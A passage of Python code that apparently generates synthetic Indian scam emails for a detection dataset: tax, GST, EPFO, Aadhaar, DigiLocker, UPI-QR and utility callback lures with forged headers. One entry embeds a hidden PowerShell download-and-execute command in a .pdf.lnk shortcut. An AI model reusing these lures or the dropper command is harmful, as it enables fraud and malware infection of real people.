                    sign_h="Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:Subject:From:To:To:Date:Message-Id:Reply-To:Sender")


@entry("b41-phish-gpay-scratch-qr", "phishing",
       "Google Pay 'you won a Rs 1,499 scratch card, scan to receive' mail whose inline QR code is actually a UPI pay "
       "request to the scammer's VPA (quishing, no web link), sent from a throwaway VPS domain.")
def gpay_qr() -> bytes:
    tag = "gpay1"
    date = "Fri, 05 Dec 2025 16:45:52 +0530"
    upi = "upi://pay?pa=gpayrewards.claim@axl&pn=GPay%20Rewards&am=1499.00&cu=INR&tn=Reward%20Claim%20GP" + digits(tag, 8)
    cid = f"qr_{hx(tag + 'cid', 10)}"
    html = html_page(f"""<div style="max-width:520px;margin:auto;font-family:'Google Sans',Roboto,Arial;text-align:center;border:1px solid #dadce0;border-radius:12px;padding:24px">
<div style="font-size:22px;color:#202124"><span style="color:#4285f4">G</span> Pay</div>
<h2 style="color:#1a73e8">Congratulations! You won a scratch card &#127881;</h2>
<p style="font-size:15px;color:#3c4043">Your Google Pay reward of <b>&#8377;1,499</b> is ready. Scan the QR code below with any UPI app
(Google Pay, PhonePe, Paytm) and enter your UPI PIN to receive the amount directly in your bank account.</p>
<img src="cid:{cid}" width="220" height="220" alt="Scan QR">
<p style="font-size:13px;color:#5f6368">Reward expires in 6 hours. Reward ID: GP{digits(tag + 'rid', 10)}</p>
<p style="font-size:11px;color:#9aa0a6">Google India Digital Services Pvt Ltd</p></div>""", "Google Pay")
    plain = strip_tags(html)
    sender = "rewards@gpay-offers.co.in"
    head = "\n".join([
        f"From: {addr('Google Pay Rewards', sender)}",
        f"To: {PRIYA[1]}",
        "Subject: You have won a Google Pay scratch card worth Rs.1,499",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 16)}.{digits(tag + 'm2', 10)}@gpay-offers.co.in>",
        "MIME-Version: 1.0",
    ])
    body = related(f"=_rel_{hx(tag + 'r', 20)}", [
        alt(f"=_alt_{hx(tag + 'a', 20)}", plain, html, "quoted-printable"),
        attachment("image/png", "reward_qr.png", files.qr_png(upi), inline=True, cid=cid),
    ])
    return assemble(provider="gmail", rcpt=PRIYA[1], mailfrom=sender, ip="103.211.218.46", rdns="server1.gpay-offers.co.in",
                    helo="server1.gpay-offers.co.in", spf="pass", dmarc="absent", dkim=[], head=head, body=body,
                    hops=[postfix_sub_hop("server1.gpay-offers.co.in", tag, PRIYA[1])])


@entry("b41-phish-itr-refund-lookalike", "phishing",
       "Income Tax Department 'refund of Rs 15,490 approved, verify your bank account' notice from a look-alike "
       "e-filing domain with its own SPF/DKIM/DMARC, linking to a fake incometax.gov.in login collecting PAN, "
       "password and card details.")
def itr_refund() -> bytes:
    tag = "itr1"
    date = "Wed, 27 Aug 2025 12:02:38 +0530"
    rcpt = "karthik.s.chn@gmail.com"
    link = f"https://eportal.incometax-refunds.in/iec/foservices/#/login?refid={digits(tag, 12)}"
    html = html_page(f"""<table width="640" align="center" style="font-family:Arial;font-size:14px;border:1px solid #c8c8c8" cellpadding="0" cellspacing="0">
<tr><td style="background:#1b3c74;color:#fff;padding:14px 18px"><b>e-Filing</b> &nbsp;|&nbsp; Income Tax Department, Government of India</td></tr>
<tr><td style="padding:20px 18px;line-height:22px">
Dear Taxpayer,<br><br>
After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of
<b>INR 15,490.00</b> for the Assessment Year 2025-26.<br><br>
Your refund could not be credited because the bank account details linked with your PAN are <b>not pre-validated</b>.
Please submit the refund re-issue request within 3 working days:<br><br>
<a href="{link}" style="background:#f5a623;color:#000;padding:10px 22px;text-decoration:none;font-weight:bold">Submit Refund Re-issue Request</a><br><br>
Refund Reference No: RFD/{digits(tag + 'r', 9)}/2025-26<br><br>
Regards,<br>Centralized Processing Centre<br>Income Tax Department</td></tr>
<tr><td style="padding:10px 18px;font-size:11px;color:#777;background:#f4f4f4">This is a system generated e-mail. Please do not reply.</td></tr>
</table>""", "e-Filing")
    plain = strip_tags(html) + f"\nLink: {link}\n"
    sender = "refunds@incometax-refunds.in"
    head = "\n".join([
        f"From: {addr('Income Tax Department', sender)}",
        f"To: {rcpt}",
        "Subject: Income Tax Refund of Rs.15,490/- Approved - Action Required (AY 2025-26)",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 32)}@incometax-refunds.in>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
    ])
    body = alt(f"----=_NextPart_000_{hx(tag + 'b', 4).upper()}_01DB{hx(tag + 'c', 4).upper()}.{hx(tag + 'd', 8).upper()}", plain, html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="162.241.70.195", rdns="box5620.bluehost.com",
                    helo="box5620.bluehost.com", spf="pass", dmarc="pass", policy_="quarantine",
                    dkim=[("pass", "incometax-refunds.in", "default")], head=head, body=body,
                    hops=[exim_hop("DESKTOP-8JQ2LMK", "102.89.34.12", "box5620.bluehost.com", sender, rcpt, tag)])


@entry("b41-phish-itd-notice-hindi", "phishing",
       "Hindi Income Tax 'notice u/s 143(1)(a): mismatch in your return, respond within 7 days' mail from a hospital's "
       "compromised mailbox, with the link on a Firebase-hosted page posing as the e-filing portal.")
def itd_notice_hindi() -> bytes:
    tag = "itd2"
    date = "Thu, 02 Oct 2025 17:26:04 +0530"
    rcpt = "suresh.yadav.pnp@gmail.com"
    sender = "accounts@sairamhospitalnellore.com"
    link = "https://efiling-incometax-gov.web.app/notice/143-1a/view?doc=" + an(tag, 14)
    html = html_page(f"""<div style="font-family:'Mangal','Noto Sans Devanagari',Arial;font-size:15px;line-height:1.7;max-width:640px">
<p style="font-size:17px;color:#1b3c74"><b>आयकर विभाग, भारत सरकार</b><br><span style="font-size:13px">Income Tax Department, Government of India</span></p>
<p>प्रिय करदाता,</p>
<p>आपके द्वारा निर्धारण वर्ष 2025-26 के लिए दाखिल आयकर रिटर्न में <b>आय में विसंगति</b> पाई गई है।
आयकर अधिनियम, 1961 की धारा 143(1)(a) के अंतर्गत आपको नोटिस जारी किया गया है।</p>
<p>कृपया 7 दिनों के भीतर ई-फाइलिंग पोर्टल पर लॉगिन करके नोटिस देखें और अपना उत्तर दर्ज करें। निर्धारित समय में उत्तर न देने पर
<b>जुर्माना एवं कानूनी कार्यवाही</b> की जा सकती है।</p>
<p><a href="{link}">नोटिस देखें / View Notice (DIN: ITBA/AST/S/143(1)(a)/2025-26/{digits(tag + 'din', 10)}(1))</a></p>
<p>भवदीय,<br>केंद्रीकृत प्रसंस्करण केंद्र (CPC), बेंगलुरु</p></div>""", "आयकर विभाग", "hi")
    plain = strip_tags(html) + f"\n{link}\n"
    bnd = f"--_NmP-{hx(tag + 'b', 16)}-Part_1"
    head = "\n".join([
        f"From: {addr('आयकर विभाग | Income Tax Department', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('आयकर नोटिस धारा 143(1)(a) - 7 दिनों के भीतर उत्तर दें | AY 2025-26')}",
        f"Message-ID: <{hx(tag + 'm1', 8)}-{hx(tag + 'm2', 4)}-{hx(tag + 'm3', 4)}-{hx(tag + 'm4', 4)}-{hx(tag + 'm5', 12)}@sairamhospitalnellore.com>",
        f"Date: {date}",
        "MIME-Version: 1.0",
        "X-Mailer: Nodemailer (6.9.13; +https://nodemailer.com/)",
    ])
    body = alt(bnd, plain, html, "base64")
    hops = [exim_hop("[127.0.0.1]", "45.137.21.9", "server.sairamhospitalnellore.com", sender, rcpt, tag)]
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="103.120.179.88", rdns="server.sairamhospitalnellore.com",
                    helo="server.sairamhospitalnellore.com", spf="pass", dmarc="absent",
                    dkim=[("pass", "sairamhospitalnellore.com", "default")], head=head, body=body, hops=hops)


@entry("b41-malware-gst-notice-lnk", "malware",
       "GST 'show cause notice DRC-01' mail to a trading firm from a look-alike CBIC domain, with a zip holding a "
       ".pdf.lnk shortcut that runs a hidden PowerShell download-and-execute (LNK dropper).")
def gst_lnk() -> bytes:
    tag = "gst1"
    date = "Mon, 20 Jan 2025 11:48:30 +0530"
    sender = "notice@cbic-gst.org.in"
    gstin = "24ABCFS" + digits(tag, 4) + "K1ZQ"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -ep bypass -c \"$u='https://cbic-gst.org.in/docs/drc01.png';"
                             "$p=$env:TEMP+'\\drc01.exe';iwr $u -OutFile $p;Start-Process $p;"
                             "Start-Process 'https://www.gst.gov.in'\"")
    zipped = files.zip_archive([(f"DRC-01_Show_Cause_Notice_{gstin}.pdf.lnk", lnk)])
    paras = ["Dear Taxpayer,", "",
             f"GSTIN: {gstin}", "Trade Name: SHREE GANESH TRADERS", "",
             "A Show Cause Notice in FORM GST DRC-01 under Section 73 of the CGST Act, 2017 has been issued to you for the "
             "tax period April 2023 - March 2024 for mismatch between GSTR-1 and GSTR-3B.",
             "", "The notice is attached herewith. You are required to file your reply in FORM GST DRC-06 within 7 days, "
             "failing which the proceedings will be concluded ex-parte and demand along with interest and penalty will be confirmed.",
             "", "Password to open the notice: gst2025", "",
             "Superintendent (Anti-Evasion)", "Central GST Commissionerate, Surat", "Central Board of Indirect Taxes and Customs"]
    html = outlook_html(paras)
    head = "\n".join([
        f"From: {addr('CGST Surat Commissionerate', sender)}",
        f"To: {SGT[1]}",
        f"Subject: GST DRC-01 Show Cause Notice u/s 73 - GSTIN {gstin}",
        f"Date: {date}",
        f"Message-ID: <0000{hx(tag + 'm', 8)}${hx(tag + 'm2', 8)}${hx(tag + 'm3', 8)}$@cbic-gst.org.in>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
        "Thread-Index: AdtrD" + b64(tag + "ti", 20),
        "Content-Language: en-in",
    ])
    body = mixed(f"----=_NextPart_000_0011_01DB6B{hx(tag + 'b', 2).upper()}.{hx(tag + 'c', 8).upper()}", [
        alt(f"----=_NextPart_001_0012_01DB6B{hx(tag + 'b', 2).upper()}.{hx(tag + 'c', 8).upper()}", strip_tags(html), html, "quoted-printable"),
        attachment("application/x-zip-compressed", f"GST_DRC-01_Notice_{gstin}.zip", zipped),
    ])
    return assemble(provider="postfix", host=SGT_HOST, rcpt=SGT[1], mailfrom=sender, ip="5.181.156.23",
                    rdns="mail.cbic-gst.org.in", helo="mail.cbic-gst.org.in", spf="pass", dmarc="absent",
                    dkim=[], head=head, body=body, hops=[postfix_sub_hop("mail.cbic-gst.org.in", tag, SGT[1],
                                                                         "DESKTOP-K7T4M2Q (unknown [41.216.188.40])")])


@entry("b41-malware-eway-bill-iso", "malware",
       "E-way bill 'mismatch in EWB, vehicle detained' mail from a transporter's compromised GoDaddy mailbox to an agro "
       "firm on Zoho, with an ISO disc image hiding an executable (ISO dropper).")
def eway_iso() -> bytes:
    tag = "ewb1"
    date = "Tue, 11 Mar 2025 15:09:12 +0530"
    sender = "accounts@sribalajiroadlines.com"
    ewb = "3310" + digits(tag, 8)
    iso = files.iso_image([(f"EWB_{ewb}_Mismatch_Details.exe", files.pe_stub())], "EWAYBILL")
    html = html_page(f"""<div style="font-family:Arial;font-size:13px">Dear Sir/Madam,<br><br>
Our vehicle KA-09-AB-{digits(tag + 'v', 4)} carrying your consignment (LR No. SBR/{digits(tag + 'lr', 5)}) has been
<b>detained by the GST mobile squad</b> at Nanjangud check post due to mismatch in E-Way Bill No. {ewb}.<br><br>
The officer has given the mismatch details in the attached file. Kindly check and send corrected invoice and EWB part-B
immediately to release the vehicle, otherwise penalty u/s 129 will be levied on the consignor.<br><br>
Thanks &amp; Regards,<br>Manjunath R<br>Sri Balaji Roadlines<br>Mysuru | +91 98450 {digits(tag + 'ph', 5)}</div>""")
    head = "\n".join([
        f"From: {addr('Sri Balaji Roadlines', sender)}",
        f"To: {KAVERI[1]}",
        f"Subject: URGENT: Vehicle detained - EWB No. {ewb} mismatch",
        f"Date: {date}",
        "MIME-Version: 1.0",
        f"Message-ID: <{digits(tag + 'm', 8)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@email.secureserver.net>",
        "X-Sender: " + sender,
        "User-Agent: Workspace Webmail 6.14.4",
        "X-Originating-IP: 178.62.52.91",
    ])
    body = mixed(f"=_{hx(tag + 'b', 32)}", [
        alt(f"=_{hx(tag + 'c', 32)}", strip_tags(html), html, "quoted-printable"),
        attachment("application/octet-stream", f"EWB_{ewb}_Mismatch.iso", iso),
    ])
    hops = [f"Received: from localhost ([178.62.52.91])\n\tby email.secureserver.net with ESMTPSA\n\tid {an(tag + 'gd', 10)}\n\t{{T}}"]
    return assemble(provider="zoho", rcpt=KAVERI[1], mailfrom=sender, ip="68.178.252.115",
                    rdns="p3plsmtpout004.prod.phx3.secureserver.net", helo="p3plwbeout21-05.prod.phx3.secureserver.net",
                    spf="pass", dmarc="absent", dkim=[], head=head, body=body, hops=hops)


@entry("b41-phish-gst-portal-suspension", "phishing",
       "GST Network 'your GSTIN registration will be suspended for non-filing, login to file reply' lure to a CA firm "
       "on Google Workspace from a look-alike gst portal domain, linking to a credential-harvesting login page.")
def gst_portal() -> bytes:
    tag = "gst2"
    date = "Fri, 13 Jun 2025 10:15:47 +0530"
    rcpt = "accounts@mehtapackaging.com"
    sender = "donotreply@services-gstportal.in"
    link = f"https://services-gstportal.in/services/login?ref=REG-17&gstin=27AAHFM{digits(tag, 4)}L1Z5"
    html = html_page(f"""<table width="600" cellpadding="0" cellspacing="0" style="font-family:Arial;font-size:13px;border:1px solid #ccc">
<tr><td style="background:#0c2d69;color:#fff;padding:12px 16px;font-size:16px">Goods and Services Tax Network</td></tr>
<tr><td style="padding:18px 16px;line-height:21px">Dear Taxpayer,<br><br>
This is to inform you that a notice for <b>suspension of registration in FORM GST REG-31</b> has been issued against
GSTIN 27AAHFM{digits(tag, 4)}L1Z5 for non-filing of returns for a continuous period of six months.<br><br>
You are required to login to the GST Portal and file your reply in FORM GST REG-18 within 7 days. Your e-way bill
generation has been blocked with immediate effect.<br><br>
<a href="{link}">Click here to login and view the notice</a><br><br>
Thanks,<br>Goods and Services Tax Network<br><br>
<span style="font-size:11px;color:#888">Note: This is a system generated email. Do not reply to this email.</span></td></tr></table>""")
    head = "\n".join([
        f"From: {addr('GST Network', sender)}",
        f"To: {rcpt}",
        "Subject: Notice for suspension of registration (REG-31) - Action required",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 20)}.{digits(tag + 'n', 6)}@services-gstportal.in>",
        "MIME-Version: 1.0",
    ])
    body = alt(f"b1_{hx(tag + 'b', 40)}", strip_tags(html) + f"\n{link}\n", html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="45.88.107.161", rdns="mail.services-gstportal.in",
                    helo="mail.services-gstportal.in", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "services-gstportal.in", "s1")], head=head, body=body,
                    hops=[postfix_sub_hop("mail.services-gstportal.in", tag, rcpt)])


@entry("b41-phish-epfo-uan-kyc-hindi", "phishing",
       "Hindi EPFO 'your PF claim of Rs 48,300 is on hold, complete UAN e-KYC' lure sent through a Brevo (Sendinblue) "
       "account on a look-alike domain, with Brevo click tracking in front of a UAN/password/OTP harvesting page.")
def epfo_uan() -> bytes:
    tag = "epfo1"
    date = "Tue, 22 Apr 2025 04:41:19 +0000"
    rcpt = RAJESH[1]
    sender = "claims@epfindia-gov.in"
    track = f"https://sbdvvt.r.sp1-brevo.net/mk/cl/f/sh/{b64(tag + 'tk', 60).replace('/', '').replace('+', '')}"
    html = html_page(f"""<table width="600" align="center" style="font-family:Arial,'Noto Sans Devanagari';font-size:15px;border:1px solid #ddd" cellpadding="0" cellspacing="0">
<tr><td style="padding:14px;background:#fff;border-bottom:3px solid #1b4f9c"><b style="color:#1b4f9c">कर्मचारी भविष्य निधि संगठन</b><br>
<span style="font-size:12px">Employees' Provident Fund Organisation, Ministry of Labour &amp; Employment</span></td></tr>
<tr><td style="padding:20px;line-height:1.7">प्रिय सदस्य,<br><br>
आपका UAN {digits(tag, 12)} से संबंधित PF निकासी दावा (&#8377;48,300) <b>e-KYC अधूरा</b> होने के कारण रोक दिया गया है।<br><br>
कृपया 48 घंटों के भीतर अपना UAN e-KYC पूरा करें, अन्यथा दावा अस्वीकार कर दिया जाएगा और राशि अगले वित्तीय वर्ष तक रोक दी जाएगी।<br><br>
<a href="{track}" style="background:#1b4f9c;color:#fff;padding:11px 24px;text-decoration:none">e-KYC पूरा करें</a><br><br>
EPFO सदस्य सेवा</td></tr>
<tr><td style="font-size:11px;color:#999;padding:10px">
<a href="https://sbdvvt.r.sp1-brevo.net/mk/un/sh/{b64(tag + 'un', 40).replace('/', '').replace('+', '')}">Unsubscribe</a></td></tr></table>
<img width="1" height="1" src="https://sbdvvt.r.sp1-brevo.net/mk/op/sh/{b64(tag + 'op', 40).replace('/', '').replace('+', '')}">""", "EPFO", "hi")
    head = "\n".join([
        f"From: {addr('EPFO सदस्य सेवा', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('आपका PF दावा रोका गया है – UAN e-KYC 48 घंटे में पूरा करें')}",
        f"Date: {date}",
        f"Message-Id: <{hx(tag + 'm', 8)}-{hx(tag + 'm2', 4)}-{hx(tag + 'm3', 4)}-{hx(tag + 'm4', 4)}-{hx(tag + 'm5', 12)}@smtp-relay.mailin.fr>",
        "MIME-Version: 1.0",
        "Origin-messageId: <" + hx(tag + "om", 24) + "@smtp-relay.mailin.fr>",
        f"X-sib-id: {b64(tag + 'sib', 60)}",
        f"X-CSA-Complaints: csa-complaints@eco.de",
        unsub(f"https://sbdvvt.r.sp1-brevo.net/mk/un/v2/sh/{b64(tag + 'un', 40).replace('/', '').replace('+', '')}"),
        "Feedback-ID: 77.32.148.18:" + digits(tag + "fid", 7) + "_-1:" + digits(tag + "fid", 7) + ":Sendinblue",
    ])
    body = alt(f"----=_Part_{digits(tag + 'b', 9)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}", strip_tags(html), html, "base64")
    hops = [f"Received: from smtp-relay.sendinblue.com (unknown)\n\tby smtp-relay.mailin.fr (Sendinblue) with ESMTP id {hx(tag + 'sb', 16)}\n\tfor <{rcpt}>; {{U}}"]
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"{hx(tag + 'rp', 20)}@bounces.sp1-brevo.net",
                    ip="77.32.148.18", rdns="s77-32-148-18.brevo.net", helo="smtp-relay.mailin.fr",
                    spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "epfindia-gov.in", "brevo1"), ("pass", "sendinblue.com", "mail")], head=head, body=body, hops=hops)


@entry("b41-phish-pension-lifecert-callback", "phishing",
       "Callback scam to a pensioner: 'Jeevan Pramaan life certificate not received, pension will stop' from a free "
       "Gmail account, no link, only a 'pension verification officer' mobile number to call.")
def pension_callback() -> bytes:
    tag = "pen1"
    date = "Mon, 10 Nov 2025 10:03:52 +0530"
    rcpt = "ramesh.chandra1958@rediffmail.com"
    sender = "jeevanpramaan.dop.helpdesk@gmail.com"
    phone = "+91 79" + digits(tag, 2) + " " + digits(tag + "p", 6)
    plain = (f"Dear Pensioner,\n\n"
             f"As per our records your Digital Life Certificate (Jeevan Pramaan) for the year 2025-26 has NOT been received "
             f"by your Pension Disbursing Bank. Your monthly pension will be STOPPED from December 2025.\n\n"
             f"प्रिय पेंशनभोगी, आपका जीवन प्रमाण पत्र प्राप्त नहीं हुआ है। दिसंबर 2025 से आपकी पेंशन रोक दी जाएगी।\n\n"
             f"To avoid stoppage please call our Pension Verification Officer Shri R.K. Mishra immediately on {phone} "
             f"(10 AM to 6 PM). Keep your PPO number, Aadhaar and bank passbook ready. Verification can be done on phone itself.\n\n"
             f"Central Pension Accounting Office\nJeevan Pramaan Helpdesk\n")
    html = gmail_html([p for p in plain.replace("\n\n", "\n\x00\n").split("\n")]).replace("<div>\x00</div>", "<div><br></div>")
    head = gmail_head(addr("Jeevan Pramaan Helpdesk", sender), rcpt,
                      "Pension Stoppage Notice - Life Certificate Not Received (PPO Verification)", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="rediff", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-aadhaar-update-tamil", "phishing",
       "Tamil UIDAI 'free Aadhaar document update ends, your Aadhaar will be deactivated' lure from a free Outlook.com "
       "mailbox, linking to a Blogger page that collects Aadhaar number, OTP and bank details.")
def aadhaar_tamil() -> bytes:
    tag = "uidai1"
    date = "Sat, 14 Jun 2025 08:22:05 +0000"
    rcpt = "karthikeyan.m.cbe@gmail.com"
    hops, ip, rdns, helo, msgid = outlook_sender(tag)
    link = "https://uidai-aadhaar-update-2025.blogspot.com/p/myaadhaar-update.html"
    paras = ["அன்புள்ள ஆதார் அட்டைதாரரே,", "",
             "உங்கள் ஆதார் விவரங்கள் கடந்த 10 ஆண்டுகளாக புதுப்பிக்கப்படவில்லை. இலவச ஆவண புதுப்பிப்பு <b>14-06-2025</b> அன்று முடிவடைகிறது.",
             "இன்று புதுப்பிக்காவிட்டால் உங்கள் ஆதார் எண் <b>செயலிழக்கப்படும்</b> மற்றும் வங்கி, ரேஷன், எரிவாயு மானியம் நிறுத்தப்படும்.", "",
             f'கீழே உள்ள இணைப்பில் உங்கள் ஆதார் எண் மற்றும் OTP ஐ உள்ளிட்டு புதுப்பிக்கவும்: <a href="{link}">myAadhaar Update</a>', "",
             "Unique Identification Authority of India (UIDAI)", "இந்திய தனித்துவ அடையாள ஆணையம்"]
    html = outlook_html(paras, "Latha")
    plain = strip_tags("<br>".join(paras)).replace("myAadhaar Update", f"myAadhaar Update <{link}>")
    sender = "uidai.myaadhaar.update@outlook.com"
    head = "\n".join([
        f"From: {addr('UIDAI myAadhaar', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('ஆதார் செயலிழப்பு எச்சரிக்கை – இன்றே புதுப்பிக்கவும் | Aadhaar Update Last Date')}",
        outlook_extra(tag).replace("{TOPIC}", enc("ஆதார் செயலிழப்பு எச்சரிக்கை")).replace("X-MS-Has-Attach: {ATT}", "X-MS-Has-Attach:"),
        f"Date: {date}",
        f"Message-ID: {msgid}",
        "Accept-Language: ta-IN, en-US",
        "Content-Language: ta-IN",
        "MIME-Version: 1.0",
    ])
    body = alt(outlook_boundary(tag, "SEZPR06MB", "apcp"), plain, html, "base64")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "outlook.com", "selector1")], head=head, body=body, hops=hops,
                    sign_h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")


@entry("b41-phish-digilocker-shared", "phishing",
       "'A document has been issued to your DigiLocker' notification imitation sent through Amazon SES from a look-alike "
       "domain, the tracked link leading to a fake DigiLocker sign-in asking for Aadhaar, PIN and OTP.")
def digilocker() -> bytes:
    tag = "dl1"
    date = "Wed, 09 Jul 2025 05:52:40 +0000"
    rcpt = MEENAKSHI[1]
    sender = "noreply@digilocker-gov.in"
    dest = f"https://digilocker-gov.in/signin?doc=PANCR-{upper(tag, 10)}"
    track = f"https://{an(tag + 'aw', 8)}.r.ap-south-1.awstrack.me/L0/{dest.replace(':', '%3A').replace('/', '%2F').replace('?', '%3F').replace('=', '%3D')}/1/0109{hx(tag + 'aw1', 12)}-{hx(tag + 'aw2', 8)}-000000/{b64(tag + 'aw3', 27).replace('/', '')}=403"
    html = html_page(f"""<div style="max-width:600px;margin:auto;font-family:Arial;border:1px solid #e3e3e3">
<div style="background:#2b2e83;padding:14px;color:#fff;font-size:19px">DigiLocker <span style="font-size:12px">Document Wallet to Empower Citizens</span></div>
<div style="padding:20px;font-size:14px;line-height:22px">Dear Citizen,<br><br>
A new document <b>PAN Verification Record</b> has been issued to your DigiLocker account by <b>Income Tax Department</b>.<br><br>
The document will be removed if it is not accepted within 48 hours. Sign in to your DigiLocker account to view and accept the document.<br><br>
<a href="{track}" style="background:#2b2e83;color:#fff;padding:10px 22px;text-decoration:none">View Document</a><br><br>
Team DigiLocker<br>Ministry of Electronics &amp; IT, Government of India</div></div>""", "DigiLocker")
    head = "\n".join([
        f"From: {addr('DigiLocker', sender)}",
        f"To: {rcpt}",
        "Subject: New document issued to your DigiLocker - PAN Verification Record",
        "MIME-Version: 1.0",
        f"Date: {date}",
        f"Message-ID: {ses_msgid(tag)}",
        ses_feedback(tag),
    ])
    body = alt(f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}", strip_tags(html) + f"\n{track}\n", html, "quoted-printable")
    ip, rdns, helo = ses_conn(tag)
    return assemble(provider="outlook", rcpt=rcpt, mailfrom=f"0109{hx(tag + 'bn', 12)}-{hx(tag + 'bn2', 8)}-000000@ap-south-1.amazonses.com",
                    ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "digilocker-gov.in", "sesm2"), ("pass", "amazonses.com", "ekvbgu5tzjbtbgefhnjv5kulmqgzbjq7")],
                    head=head, body=body)


@entry("b41-phish-msedcl-disconnect-marathi", "phishing",
       "Marathi electricity-disconnection callback scam: 'your MSEDCL power will be cut tonight at 9:30, bill not "
       "updated, call the electricity officer' from a free Gmail account with only a mobile number, no link.")
def msedcl_callback() -> bytes:
    tag = "mse1"
    date = "Thu, 20 Feb 2025 18:11:43 +0530"
    rcpt = "vaishali.kulkarni88@gmail.com"
    sender = "msedcl.billing.office@gmail.com"
    phone = "84" + digits(tag, 8)
    plain = ("प्रिय ग्राहक,\n\n"
             "आपली मागील महिन्याची वीज बिल अद्ययावत (Update) न झाल्याने आज रात्री 9.30 वाजता आपला वीज पुरवठा खंडित "
             "करण्यात येईल.\n\n"
             f"कृपया त्वरित आमच्या वीज अधिकारी श्री. देशमुख यांच्याशी {phone} या क्रमांकावर संपर्क साधा.\n\n"
             "Dear Consumer, your electricity connection will be disconnected tonight at 9:30 PM because your previous "
             f"month bill is not updated. Please contact our electricity officer immediately on {phone}.\n\n"
             "धन्यवाद,\nमहावितरण (MSEDCL)\n")
    html = gmail_html([l for l in plain.split("\n")])
    head = gmail_head(addr("महावितरण MSEDCL", sender), rcpt, enc("वीज पुरवठा खंडित करण्याची सूचना - आज रात्री 9.30 वाजता"),
                      date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, "base64", upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-tsspdcl-disconnect-telugu", "phishing",
       "Telugu TGSPDCL power-cut callback scam ('your connection will be cut tonight, contact the officer on WhatsApp') "
       "from a Gmail account, with only a wa.me chat link and a phone number.")
def tsspdcl_callback() -> bytes:
    tag = "tss1"
    date = "Sat, 26 Apr 2025 19:02:08 +0530"
    rcpt = SREENIVAS[1]
    sender = "tgspdcl.consumer.cell@gmail.com"
    phone = "91" + "7" + digits(tag, 9)
    plain = ("ప్రియమైన వినియోగదారుడా,\n\n"
             "మీ గత నెల విద్యుత్ బిల్లు అప్‌డేట్ కానందున ఈ రాత్రి 9:30 గంటలకు మీ విద్యుత్ కనెక్షన్ నిలిపివేయబడుతుంది.\n\n"
             f"వెంటనే మా విద్యుత్ అధికారిని వాట్సాప్‌లో సంప్రదించండి: https://wa.me/{phone}\n"
             f"ఫోన్: +{phone[:2]} {phone[2:7]} {phone[7:]}\n\n"
             "TGSPDCL - Southern Power Distribution Company of Telangana Ltd.\n")
    html = gmail_html([l if "wa.me" not in l else l.replace(f"https://wa.me/{phone}", f'<a href="https://wa.me/{phone}">https://wa.me/{phone}</a>')
                       for l in plain.split("\n")])
    head = gmail_head(addr("TGSPDCL Consumer Cell", sender), rcpt, enc("విద్యుత్ కనెక్షన్ నిలిపివేత నోటీసు - ఈ రాత్రి 9:30"), date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, "base64", upper_cs=True)
    return assemble(provider="outlook", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-indiapost-address", "phishing",
       "India Post 'your parcel is held at the hub, address incomplete, pay Rs 25 redelivery fee' smishing-style mail "
       "spoofing a display name from a bulk VPS domain, linking to a look-alike tracking page that takes card details.")
def indiapost() -> bytes:
    tag = "ip1"
    date = "Mon, 03 Mar 2025 02:17:29 +0000"
    rcpt = ANANYA[1]
    sender = "info@track-indiapost.top"
    link = f"https://indiapost.in-redeliver.top/in/?t=EE{digits(tag, 9)}IN"
    html = html_page(f"""<div style="font-family:Arial;max-width:600px;margin:auto;border:1px solid #ddd">
<div style="background:#c8102e;padding:12px;color:#fff;font-size:18px;font-weight:bold">India Post</div>
<div style="padding:20px;font-size:14px;line-height:22px">
<b>Your package has arrived at the warehouse but cannot be delivered due to incomplete address information.</b><br><br>
Tracking Number: EE{digits(tag, 9)}IN<br>Status: Held at Kolkata NSH<br><br>
Please confirm your address in the link within 12 hours and pay a redelivery fee of <b>Rs. 25.00</b>, otherwise the
package will be returned to sender.<br><br>
<a href="{link}" style="background:#c8102e;color:#fff;padding:10px 24px;text-decoration:none">Update Address</a><br><br>
The India Post team wishes you a wonderful day!</div></div>""", "India Post")
    head = "\n".join([
